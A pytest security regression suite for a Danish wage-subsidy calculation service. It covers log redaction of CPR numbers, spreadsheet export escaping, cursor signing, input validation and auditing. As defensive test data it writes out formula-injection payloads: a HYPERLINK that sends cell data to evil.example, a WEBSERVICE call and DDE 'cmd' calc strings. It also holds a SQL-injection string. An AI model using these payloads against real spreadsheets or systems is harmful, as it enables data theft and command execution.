"""Defects an attack pass found, each attacked here the way the attacker did (SECURITY.md lists them)."""

from __future__ import annotations

import logging
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from api.app import create_app
from flexcalc.errors import InputError
from flexcalc.ledger.db import session_factory, upgrade
from flexcalc.security.keys import KEY_CACHE, create_key
from flexcalc.security.redact import redact_record

# The CLI never migrates: each test's database gets the explicit `flexcalc db upgrade` first.
pytestmark = pytest.mark.usefixtures("migrated_databases")

ROOT = Path(__file__).resolve().parents[2]
CPR = "0101901234"


# --- CPR numbers URL-encoded in the access log ----------------------------------------------------

@pytest.mark.parametrize("path", ["/v1/cases/010190%201234", "/v1/cases/010190%2D1234", "/v1/cases/010190%2d1234",
                                  "/v1/cases?case_id=010190+1234", "/v1/cases/%30%31%30%31%39%30%31%32%33%34",
                                  "/v1/cases/0101901234"])
def test_an_url_encoded_cpr_number_is_redacted_in_the_access_log(path: str) -> None:
    # the record exactly as uvicorn's access logger makes it: (client, method, path with query, version, status)
    record = logging.LogRecord("uvicorn.access", logging.INFO, __file__, 1, '%s - "%s %s HTTP/%s" %d',
                               ("127.0.0.1:5000", "GET", path, "1.1", 422), None)
    line = logging.Formatter("%(message)s").format(redact_record(record))
    assert "[CPR]" in line
    digits = "".join(ch for ch in line.replace("127.0.0.1:5000", "").replace("HTTP/1.1", "") if ch.isdigit())
    assert "1234" not in digits and "010190" not in digits, line
    assert line.endswith(" 422")  # the status stays a number for uvicorn's formatter


def test_text_with_plus_or_percent_but_no_cpr_is_kept() -> None:
    record = logging.LogRecord("uvicorn.access", logging.INFO, __file__, 1, "%s", ("/v1/x?q=a+b&p=50%25",), None)
    assert redact_record(record).getMessage() == "/v1/x?q=a+b&p=50%25"


# --- spreadsheet formula injection in `flexcalc finance --xlsx` -----------------------------------

def test_a_statement_person_written_as_a_formula_stays_text_in_the_workbook(sqlite_url: str, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from tests.finance.test_finance_report import FINANCE, SCENARIOS, replay, run

    replay(SCENARIOS / "late_report", sqlite_url)
    statement = tmp_path / "statement.csv"
    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "=WEBSERVICE(\"http://evil.example\")",
               "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
    rows = ["person,period_start,period_end,benefit,amount,refund"]
    rows += [f'"{a.replace(chr(34), chr(34) * 2)}",2024-03-01,2024-03-31,fleksloentilskud,9000.00,3600.00'
             for a in attacks]
    statement.write_text("\n".join(rows) + "\n", encoding="utf-8")
    path = tmp_path / "finance.xlsx"
    run(sqlite_url, "finance", "2024-03", "--xlsx", str(path), "--profiles", str(FINANCE / "profiles.csv"),
        "--statement", str(statement))
    sheet = load_workbook(path)["Afvigelser"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c for c in cells if c.data_type == "f"] == []  # no formula anywhere
    people = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert sorted(p for p in people if p != "S1") == sorted("'" + a for a in attacks)  # S1: paid, not in it
    # a plain negative amount written as text is still a number-looking text, not escaped
    from flexcalc.finance.export import _is_formula_like

    assert not _is_formula_like("-120.00") and _is_formula_like("-1+cmd|' /C calc'!A0")
    assert _is_formula_like("\t=1") and _is_formula_like("\r=1")


# --- Idempotency-Key: the fingerprint includes the query string -----------------------------------

def test_the_same_idempotency_key_with_another_query_is_refused_not_replayed(sqlite_url: str,
                                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FLEXCALC_DATABASE_URL", sqlite_url)
    upgrade(sqlite_url)
    KEY_CACHE.clear()
    with session_factory(sqlite_url).begin() as session:
        _, secret = create_key(session, "caseworker")
    client = TestClient(create_app())
    headers = {"Authorization": f"Bearer {secret}", "Idempotency-Key": "q-1"}
    body = {"case_id": "Q1", "ceiling": "32067", "first_month": "2024-03"}
    first = client.post("/v1/cases?as_of=2024-03-01", json=body, headers=headers)
    assert first.status_code == 201, first.text
    same = client.post("/v1/cases?as_of=2024-03-01", json=body, headers=headers)
    assert same.status_code == 201 and same.headers["idempotent-replayed"] == "true"
    other = client.post("/v1/cases?as_of=2025-01-01", json=body, headers=headers)
    assert other.status_code == 422 and other.json()["errors"][0]["field"] == "Idempotency-Key"
    KEY_CACHE.clear()


# --- non-ASCII digits ------------------------------------------------------------------------------

@pytest.mark.parametrize("month", ["２０２４-03", "2024-０３", "٢٠٢٤-03", "2024-0３"])
def test_non_ascii_digits_in_a_month_are_refused_everywhere(month: str) -> None:
    from flexcalc.period import Month

    with pytest.raises(InputError):
        Month.parse(month)
    client = TestClient(create_app())
    answer = client.post("/v1/calculations", json={"month": month, "wage": "15600", "ceiling": "32067"})
    assert answer.status_code == 422
    assert answer.json()["errors"][0]["field"] == "month"


@pytest.mark.parametrize("weeks", ["１２", "٣", "12\u0663"])
def test_non_ascii_digits_in_weeks_before_are_refused(weeks: str) -> None:
    from flexcalc.finance.ladder import check_weeks_before

    with pytest.raises(InputError) as raised:
        check_weeks_before(weeks)
    assert raised.value.field == "weeks_before"
    assert check_weeks_before("12") == 12


# --- identifiers normalised at key creation -------------------------------------------------------

def test_a_citizen_key_for_a_case_typed_with_spaces_reads_its_case(sqlite_url: str,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FLEXCALC_DATABASE_URL", sqlite_url)
    upgrade(sqlite_url)
    KEY_CACHE.clear()
    with session_factory(sqlite_url).begin() as session:
        _, caseworker = create_key(session, "caseworker")
        row, citizen = create_key(session, "citizen", case_id="A1 ")
        assert row.case_id == "A1"
        employer_row, _ = create_key(session, "employer", employer_cvr=" 12345678 ")
        assert employer_row.employer_cvr == "12345678"
        with pytest.raises(InputError):
            create_key(session, "citizen", case_id=" 010190-1234 ")  # a CPR number stays refused
    client = TestClient(create_app())
    made = client.post("/v1/cases", json={"case_id": "A1", "ceiling": "32067", "first_month": "2024-03"},
                       headers={"Authorization": f"Bearer {caseworker}"})
    assert made.status_code == 201, made.text
    own = client.get("/v1/cases/A1", headers={"Authorization": f"Bearer {citizen}"})
    assert own.status_code == 200, own.text
    KEY_CACHE.clear()


# --- reforms: hostile YAML ------------------------------------------------------------------------

@pytest.mark.parametrize(("yaml_text", "field", "words"), [
    ('name: X\nparameters:\n  max_subsidy: {2024-01-01: 1e999}\n', "parameters.max_subsidy.2024-01-01", "too large"),
    ('name: X\nparameters:\n  max_subsidy: {2024-01-01: "1e999"}\n', "parameters.max_subsidy.2024-01-01",
     "too large"),
    ("name: X\nparameters:\n  max_subsidy: {2024-01-01: " + "9" * 5000 + "}\n", "reform", "too long"),
    ('name: X\nparameters:\n  ? [a, b]\n  : {2024-01-01: "1"}\n', "reform", "mapping key"),
    ("? [a]\n: 1\nname: X\n", "reform", "mapping key"),
])
def test_a_hostile_reform_file_is_422_naming_the_field(yaml_text: str, field: str, words: str) -> None:
    client = TestClient(create_app(), raise_server_exceptions=False)
    answer = client.post("/v1/reforms/run", json={"month": "2024-03", "reform": yaml_text,
                                                  "synthetic": {"people": 10, "seed": 1}})
    assert answer.status_code == 422, answer.text
    error = answer.json()["errors"][0]
    assert error["field"] == field and words in error["reason"] and error["reason_da"]


# --- CSV a reader cannot read ---------------------------------------------------------------------

def _statement_with(field: str, line_end: str = "\n") -> str:
    header = "person,period_start,period_end,benefit,amount,refund"
    return line_end.join([header, f"{field},2024-03-01,2024-03-31,fleksloentilskud,9000.00,3600.00"]) + line_end


@pytest.mark.parametrize(("which", "text"), [
    ("statement", _statement_with("x" * 131_073)),
    ("statement", _statement_with("S1", "\r")),
    ("profiles", "case_id,visitation_date,job_start,month,weeks_before\r" + "y" * 140_000 + ",,,2024-02,2\r"),
    ("profiles", "case_id,visitation_date,job_start,month,weeks_before\nS1,," + "z" * 131_073 + ",2024-02,2\n"),
])
def test_an_unreadable_csv_is_422_not_500(which: str, text: str, sqlite_url: str,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    from flexcalc.finance.profiles import read_profiles_text
    from flexcalc.finance.statement import read_statement_text

    reader = read_statement_text if which == "statement" else read_profiles_text
    with pytest.raises(InputError) as raised:
        reader(text)
    assert raised.value.field == which and "line" in raised.value.reason_en and "linje" in raised.value.reason_da
    # and over the API, with a finance key
    monkeypatch.setenv("FLEXCALC_DATABASE_URL", sqlite_url)
    upgrade(sqlite_url)
    KEY_CACHE.clear()
    with session_factory(sqlite_url).begin() as session:
        _, secret = create_key(session, "finance")
    client = TestClient(create_app(), raise_server_exceptions=False)
    answer = client.post("/v1/finance/reports", headers={"Authorization": f"Bearer {secret}"},
                         json={"month": "2024-03", f"{which}_csv": text})
    assert answer.status_code == 422, answer.text
    assert answer.json()["errors"][0]["field"] == which
    KEY_CACHE.clear()


# --- ledger writes: free text, instants ahead of the clock, an employer's identical resend ------------

@pytest.fixture
def ledger(sqlite_url: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[TestClient, dict[str, dict[str, str]]]]:
    monkeypatch.setenv("FLEXCALC_DATABASE_URL", sqlite_url)
    upgrade(sqlite_url)
    KEY_CACHE.clear()
    h: dict[str, dict[str, str]] = {}
    with session_factory(sqlite_url).begin() as session:
        for role, scope in (("caseworker", {}), ("citizen", {"case_id": "X1"}),
                            ("employer", {"employer_cvr": "11111111"})):
            h[role] = {"Authorization": f"Bearer {create_key(session, role, **scope)[1]}"}
    client = TestClient(create_app())
    made = client.post("/v1/cases", headers=h["caseworker"], json={
        "case_id": "X1", "ceiling": "32067", "first_month": "2024-03", "employers": ["11111111"]})
    assert made.status_code == 201, made.text
    yield client, h
    KEY_CACHE.clear()


def _wage_report(rid: str, received: str | None = "2024-03-01T10:00:00+01:00") -> dict[str, object]:
    row: dict[str, object] = {
        "report_id": rid, "case_id": "X1", "employer_id": "11111111", "payment_date": "2024-02-29",
        "period_start": "2024-02-01", "period_end": "2024-02-29", "wage": "15600", "pension_own": "0",
        "pension_employer": "0", "hours": "64", "kind": "original"}
    if received is not None:
        row["received_at"] = received
    return row


def test_event_registrations_keep_no_cpr_number_in_free_text(ledger) -> None:  # type: ignore[no-untyped-def]
    client, h = ledger
    body = {"events": {"periods": [{"kind": "sickness_unpaid", "start": "2024-02-01", "end": "2024-02-29"}],
                       "sickness_benefit": "11000"},
            "received_at": "2024-03-20T10:00:00+01:00", "registered_by": "sb for 010190-1234",
            "document": "lægeerklæring for 0101901234 (CPR 010190 1234)"}
    from tests.support.item_version import month_if_match

    made = client.post("/v1/cases/X1/months/2024-03/events", json=body,
                       headers={**h["caseworker"], **month_if_match(client, "X1", "2024-03", h["caseworker"])})
    assert made.status_code == 201, made.text
    for who in ("caseworker", "citizen"):
        history = client.get("/v1/cases/X1/months/2024-03/events", headers=h[who])
        assert history.status_code == 200, history.text
        text = history.text
        assert "1234" not in text and "010190" not in text, text
        assert history.json()[0]["registered_by"] == "sb for [CPR]"
        assert history.json()[0]["document"] == "lægeerklæring for [CPR] (CPR [CPR])"


@pytest.mark.parametrize("instant", ["2999-01-01T00:00:00+01:00", "2100-06-01", "now+1h"])
def test_an_instant_far_ahead_of_the_clock_is_refused_before_it_is_stored(ledger, instant: str) -> None:  # type: ignore[no-untyped-def]
    import datetime as dt

    client, h = ledger
    if instant == "now+1h":
        instant = (dt.datetime.now(dt.UTC) + dt.timedelta(hours=1)).isoformat()
    events = {"events": {"periods": [{"kind": "sickness_unpaid", "start": "2024-02-01", "end": "2024-02-29"}],
                         "sickness_benefit": "11000"}, "received_at": instant, "registered_by": "sb-1"}
    from tests.support.item_version import month_if_match

    answer = client.post("/v1/cases/X1/months/2024-03/events", json=events,  # the version is right: only the instant
                         headers={**h["caseworker"], **month_if_match(client, "X1", "2024-03", h["caseworker"])})
    assert answer.status_code == 422 and answer.json()["errors"][0]["field"] == "received_at", answer.text
    assert "5 minutes" in answer.json()["errors"][0]["reason"]
    report = client.post("/v1/employer/wage-reports", headers=h["caseworker"],
                         json={"reports": [_wage_report("F1", instant)]})
    assert report.status_code == 422 and report.json()["errors"][0]["field"].endswith("received_at"), report.text
    assert client.get("/v1/cases/X1/months/2024-03/events", headers=h["caseworker"]).json() == []
    # a minute ahead (clock skew between machines) is accepted
    soon = (dt.datetime.now(dt.UTC) + dt.timedelta(minutes=1)).isoformat()
    assert client.post("/v1/employer/wage-reports", headers=h["caseworker"],
                       json={"reports": [_wage_report("F2", soon)]}).status_code == 201


@pytest.mark.parametrize("received", ["2024-03-01T10:00:00+01:00", None])
def test_an_employer_resending_an_identical_report_gets_already_stored(ledger, received: str | None) -> None:  # type: ignore[no-untyped-def]
    client, h = ledger
    batch = {"reports": [_wage_report("R1", received)]}
    first = client.post("/v1/employer/wage-reports", headers=h["employer"], json=batch)
    assert first.status_code == 201, first.text
    again = client.post("/v1/employer/wage-reports", headers=h["employer"], json=batch)
    assert again.status_code in (200, 201), again.text
    assert again.json()["already_stored"] == ["R1"] and again.json()["stored"] == []
    # other content under the same id is still refused, naming the field
    changed = client.post("/v1/employer/wage-reports", headers=h["employer"],
                          json={"reports": [{**_wage_report("R1", received), "wage": "15601"}]})
    assert changed.status_code == 409 and "wage" in changed.json()["detail"], changed.text


# --- pagination cursors: signed, a forged one is 422 on every list ---------------------------------

LISTS = {"worklist": ("/v1/worklist", 5), "held": ("/v1/held-months", 2), "letters": ("/v1/cases/X1/letters", 1),
         "cases": ("/v1/cases", 1), "months": ("/v1/cases/X1/months", 1),
         "corrections": ("/v1/cases/X1/corrections", 1), "case-held": ("/v1/cases/X1/held-months", 1),
         "audit": ("/v1/audit", 1)}


def _forged(kind: str, key: list[object]) -> str:
    import base64
    import json

    raw = json.dumps([kind, key]).encode()
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


@pytest.mark.parametrize("kind", sorted(LISTS))
def test_a_forged_pagination_cursor_is_422_on_every_list(ledger, kind: str) -> None:  # type: ignore[no-untyped-def]
    client, h = ledger
    path, arity = LISTS[kind]
    first = client.get(path, headers=h["caseworker"], params={"limit": 1})
    assert first.status_code == 200, first.text
    hostile = [["x" * 300] * arity, [2**70] * arity, ["\x00'; DROP TABLE x;--"] * arity, ["2024-13"] * arity,
               [-1] * arity, [None] * arity]
    for key in hostile:
        for cursor in (_forged(kind, key), _forged(kind, key) + ".AAAAAAAAAAAAAAAAAAAAAA",
                       _forged(kind, key) + "." + _forged(kind, key)[:22]):
            answer = client.get(path, headers=h["caseworker"], params={"cursor": cursor})
            assert answer.status_code == 422, (key, answer.text)
            assert answer.json()["errors"][0]["field"] == "cursor"
    # a citizen's list is guarded the same way
    if kind == "months":
        answer = client.get(path, headers=h["citizen"], params={"cursor": _forged(kind, ["2024-13"])})
        assert answer.status_code == 422


def test_a_cursor_the_service_made_still_pages(ledger) -> None:  # type: ignore[no-untyped-def]
    client, h = ledger
    for n in range(3):
        assert client.post("/v1/cases", headers=h["caseworker"], json={
            "case_id": f"P{n}", "ceiling": "32067", "first_month": "2024-03"}).status_code == 201
    seen: list[str] = []
    cursor = None
    while True:
        params: dict[str, object] = {"limit": 2, **({"cursor": cursor} if cursor else {})}
        page = client.get("/v1/cases", headers=h["caseworker"], params=params)
        assert page.status_code == 200, page.text
        seen += [c["case_id"] for c in page.json()]
        cursor = page.headers.get("x-next-cursor")
        if not cursor:
            break
        assert "." in cursor
    assert seen == ["P0", "P1", "P2", "X1"]


# --- the command line's ledger writes are audited -------------------------------------------------

def test_every_cli_ledger_write_is_audited_with_the_os_user_or_by(sqlite_url: str) -> None:
    import getpass

    from sqlalchemy import select

    from flexcalc.security.models import AuditEntry
    from tests.support.ledger_cli import invoke

    def ok(*args: str) -> None:
        result = invoke(*args)
        assert result.exit_code == 0, result.stdout + result.stderr

    ok("case", "create", "C1", "--ceiling", "32067", "--from", "2024-03", "--employer", "11111111", "--db", sqlite_url)
    ok("--by", "sb-17", "case", "ceiling", "C1", "--amount", "33000", "--from", "2024-04", "--db", sqlite_url)
    ok("--by", "sb 010190-1234", "pay", "2024-03", "--as-of", "2024-03-06", "--db", sqlite_url)
    ok("reconcile", "--as-of", "2024-03-31", "--db", sqlite_url)
    refused = invoke("case", "ceiling", "NO-SUCH", "--amount", "1", "--from", "2024-04", "--db", sqlite_url)
    assert refused.exit_code == 2
    with session_factory(sqlite_url)() as session:
        rows = [(r.key_id, r.role, r.route, r.case_id, r.method) for r in
                session.scalars(select(AuditEntry).order_by(AuditEntry.id))]
    user = getpass.getuser()
    assert rows == [
        (f"cli:{user}"[:32], "cli", "flexcalc case create", "C1", "CLI"),
        ("cli:sb-17", "cli", "flexcalc case ceiling", "C1", "CLI"),
        ("cli:sb [CPR]", "cli", "flexcalc pay 2024-03", None, "CLI"),  # no CPR number in the audit log either
        (f"cli:{user}"[:32], "cli", "flexcalc reconcile", None, "CLI"),
    ]  # the refused write made nothing, so it left no row


# --- a bulk import audits each case ----------------------------------------------------------------

def test_a_bulk_import_leaves_an_audit_row_for_each_case(ledger) -> None:  # type: ignore[no-untyped-def]
    client, h = ledger
    text = ("case_id,ceiling,first_month,employer_ids,cpr\n"
            "K-1,32067,2024-03,12345678,\nK-2,28000,2024-04,,010190-1234\nK-3,30000.00,2024-03,,\n")
    made = client.post("/v1/cases/import", content=text, headers={**h["caseworker"], "Content-Type": "text/csv"})
    assert made.status_code == 201, made.text
    for case in ("K-1", "K-2", "K-3"):
        rows = client.get("/v1/audit", headers=h["caseworker"], params={"case_id": case}).json()["entries"]
        assert [(r["route"], r["action"], r["status"]) for r in rows] == [("/v1/cases/import", "write", 201)], case
    everything = client.get("/v1/audit", headers=h["caseworker"], params={"limit": 1000}).text
    assert "010190" not in everything


# --- the finance role never receives a CPR number from statement rows ------------------------------

def test_statement_rows_keyed_by_cpr_reach_the_finance_role_as_case_ids(ledger, sqlite_url: str) -> None:  # type: ignore[no-untyped-def]
    client, h = ledger
    assert client.post("/v1/cases", headers=h["caseworker"], json={
        "case_id": "S1", "ceiling": "32067", "first_month": "2024-03", "employers": ["11111111"],
        "cpr": "010190-1234"}).status_code == 201
    report = {"report_id": "S1-02", "case_id": "S1", "employer_id": "11111111", "payment_date": "2024-02-29",
              "period_start": "2024-02-01", "period_end": "2024-02-29", "wage": "15600", "pension_own": "0",
              "pension_employer": "0", "hours": "64", "received_at": "2024-03-01", "kind": "original"}
    assert client.post("/v1/employer/wage-reports", headers=h["caseworker"], json={"reports": [report]}
                       ).status_code == 201
    assert client.post("/v1/payment-runs", headers=h["caseworker"],
                       json={"month": "2024-03", "as_of": "2024-03-06"}).status_code == 201
    with session_factory(sqlite_url).begin() as session:
        _, finance = create_key(session, "finance")
    statement = ("person,period_start,period_end,benefit,amount,refund\n"
                 "0101901234,2024-03-01,2024-03-31,fleksloentilskud,15272.00,6108.80\n"   # S1's CPR
                 "311299-9876,2024-03-01,2024-03-31,fleksloentilskud,9000.00,3600.00\n"    # no case has it
                 "010190 1234,2024-02-01,2024-02-29,fleksloentilskud,15272.00,6108.80\n")  # S1, wrong period
    answer = client.post("/v1/finance/reports", headers={"Authorization": f"Bearer {finance}"},
                         json={"month": "2024-03", "statement_csv": statement})
    assert answer.status_code == 200, answer.text
    assert "1234" not in answer.text and "9876" not in answer.text and "010190" not in answer.text
    rec = answer.json()["reconciliation"]
    assert rec["unmatched_cpr"] == 1  # the CPR number with no case: a count
    persons = [(d["person"], d["cause"]) for d in rec["differences"]]
    assert ("S1", "wrong_period") in persons and all(p == "S1" for p, _ in persons)
    # the X1 case of the fixture was not paid in March: no difference names anybody else


def test_the_audit_log_keeps_an_employer_id_whole(database_url: str) -> None:
    """Two employers whose ids share their first eight characters stay two employers in the audit log (the
    log cut employer ids to 8 characters; the ledger allows 16)."""
    from flexcalc.security.audit import AuditEvent, query, record

    upgrade(database_url)
    with session_factory(database_url).begin() as session:
        record(session, [AuditEvent(action="write", employer_cvr="12345678-AFD-001"),
                         AuditEvent(action="write", employer_cvr="12345678-AFD-002")],
               method="POST", route="/v1/employer/wage-reports", status=201)
    with session_factory(database_url)() as session:
        assert [e.employer_cvr for e in query(session)] == ["12345678-AFD-001", "12345678-AFD-002"]
